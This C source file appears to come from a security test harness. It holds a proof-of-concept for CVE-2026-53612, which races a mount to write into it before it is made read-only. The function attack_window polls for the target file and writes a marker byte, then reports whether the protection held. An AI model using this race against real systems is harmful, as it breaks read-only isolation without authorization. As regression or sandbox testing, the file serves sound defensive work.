/* SPDX-License-Identifier: MIT */
/*
 * CVE-2026-53612: a mount that is made first, and made read-only after, can be written in between;
 * where it spreads, its copies are never made read-only.
 */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

/* window FILE: wait until something is mounted where it is, and write it */
int attack_window(char **argv)
{
    time_t end = time(NULL) + 10;
    if (write(STDOUT_FILENO, "ready\n", 6) != 6)
        return attack_not_tried("say that it began");
    while (time(NULL) < end) {
        int fd = open(argv[0], O_WRONLY);
        if (fd >= 0)
            return write(fd, "X", 1) == 1 ? ATTACK_OUT : attack_held("write");
        if (errno != ENOENT)
            return attack_held("open");
    }
    return attack_not_tried("nothing was mounted");
}
